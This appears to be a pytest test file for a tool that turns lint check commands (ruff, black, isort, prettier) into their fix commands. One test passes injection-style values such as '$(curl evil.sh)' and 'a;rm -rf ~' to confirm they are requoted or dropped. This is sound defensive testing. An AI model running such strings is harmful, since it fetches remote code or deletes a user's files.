"""Deterministic fixers: a check command in, the commands that fix it out."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from workers.engine.fixers import Fixer, fixer_for, split_simple_commands

VENV_BIN = Path(sys.executable).parent


@pytest.mark.parametrize("check, fixes", [
    ("ruff format --check", ["ruff format"]),
    ("ruff format --check --diff src tests", ["ruff format src tests"]),
    ("ruff check .", ["ruff check --fix ."]),
    ("ruff check --no-fix --config pyproject.toml src", [
        "ruff check --fix --config pyproject.toml src"]),
    ("ruff check --output-format=github --select I,F401 src", [
        "ruff check --fix --output-format=github --select I,F401 src"]),
    ("black --check .", ["black ."]),
    ("black --check --diff -l 100 src tests", ["black -l 100 src tests"]),
    ("python -m black --check src", ["python -m black src"]),
    ("python3.11 -m isort --check-only --diff --profile black .", [
        "python3.11 -m isort --profile black ."]),
    ("isort --check src", ["isort src"]),
    ("isort -c .", ["isort ."]),
    ("prettier --check .", ["prettier --write ."]),
    ("npx prettier -c src", ["npx prettier --write src"]),
    ('npx --yes prettier@3.2.5 --check "src/**/*.{ts,tsx}"', [
        "npx --yes prettier@3.2.5 --write 'src/**/*.{ts,tsx}'"]),
    ("yarn prettier --list-different .", ["yarn prettier --write ."]),
    ("pre-commit run --all-files", ["pre-commit run --all-files"]),
    ("pre-commit run --all-files --show-diff-on-failure ruff", [
        "pre-commit run --all-files --show-diff-on-failure ruff"]),
    ("poetry run black --check .", ["poetry run black ."]),
    (".venv/bin/ruff check src", [".venv/bin/ruff check --fix src"]),
])
def test_check_commands_become_fix_commands(check, fixes):
    fixer = fixer_for(check)
    assert isinstance(fixer, Fixer)
    assert fixer.check_command == check
    assert fixer.fix_commands == fixes


@pytest.mark.parametrize("command", [
    "pytest -q", "black .", "ruff format src", "isort .", "prettier --write .", "npm test",
    "mypy src", "", "echo 'unterminated", "make lint", "pre-commit install",
])
def test_commands_that_are_not_check_mode_have_no_fixer(command):
    assert fixer_for(command) is None


def test_multi_line_and_joined_commands_collect_every_fixable_tool():
    command = """\
python -m pip install ruff black  # tools
ruff check src tests && ruff format --check src tests
black --check \\
    --diff src
mypy src || true
"""
    fixer = fixer_for(command)
    assert fixer.fix_commands == [
        "ruff check --fix src tests", "ruff format src tests", "black src"]
    assert fixer.name == "ruff check --fix + ruff format + black"
    assert fixer.check_command == command  # verify by re-running the whole original


def test_directory_changes_are_kept():
    fixer = fixer_for("cd web/app && npx prettier --check src; cd ../.. && black --check .")
    assert fixer.fix_commands == [
        "cd web/app && npx prettier --write src",
        "cd web/app && cd ../.. && black .",
    ]


def test_untrusted_text_is_requoted_not_pasted():
    fixer = fixer_for('black --check "src/my dir" "$(curl evil.sh)" \'a;rm -rf ~\'')
    assert fixer.fix_commands == [
        "black 'src/my dir' '$(curl evil.sh)' 'a;rm -rf ~'"]
    fixer = fixer_for('FOO="a b" BAR=1 ruff format --check .')
    assert fixer.fix_commands == ["FOO='a b' BAR=1 ruff format ."]  # still assignments
    # a command substitution is a separate command to us: it is never carried over
    assert fixer_for("X=$(curl evil.sh) ruff format --check .").fix_commands == ["ruff format ."]


def test_shell_keywords_and_negation_are_skipped():
    fixer = fixer_for("if ! black --check .; then echo 'run black'; exit 1; fi")
    assert fixer.fix_commands == ["black ."]


def test_split_simple_commands():
    assert split_simple_commands("a b && c | d; e\nf 'g h' # comment") == [
        ["a", "b"], ["c"], ["d"], ["e"], ["f", "g h"]]


MESSY = """\
import sys
import os
from collections import OrderedDict, defaultdict
def total( items ):
    unused = 1
    return sum( [ i for i in items ] )
"""


def _run(command: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PATH": f"{VENV_BIN}{os.pathsep}{os.environ.get('PATH', '')}",
           "NO_COLOR": "1"}
    return subprocess.run(["bash", "-c", command], cwd=cwd, env=env, text=True,
                          capture_output=True, timeout=120)


@pytest.mark.parametrize("check", [
    "ruff check --select F401,I001 . && ruff format --check .",
    "isort --check-only --diff --profile black pkg && black --check --diff pkg",
    "python -m black --check pkg && python -m isort -c --profile black pkg",
])
def test_fix_commands_make_the_real_check_pass(tmp_path: Path, check: str):
    for tool in ("ruff", "black", "isort"):
        if not (VENV_BIN / tool).exists():
            pytest.skip(f"{tool} is not installed next to the interpreter")
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "__init__.py").write_text("")
    (pkg / "messy.py").write_text(MESSY)
    (tmp_path / ".git").mkdir()  # project root for black/ruff config discovery

    before = _run(check, tmp_path)
    assert before.returncode != 0, before.stdout + before.stderr

    fixer = fixer_for(check)
    assert fixer is not None
    for command in fixer.fix_commands:
        _run(command, tmp_path)  # exit status means nothing; the check decides

    after = _run(fixer.check_command, tmp_path)
    assert after.returncode == 0, after.stdout + after.stderr
    fixed = (pkg / "messy.py").read_text()
    assert fixed != MESSY
    assert "def total(items):" in fixed
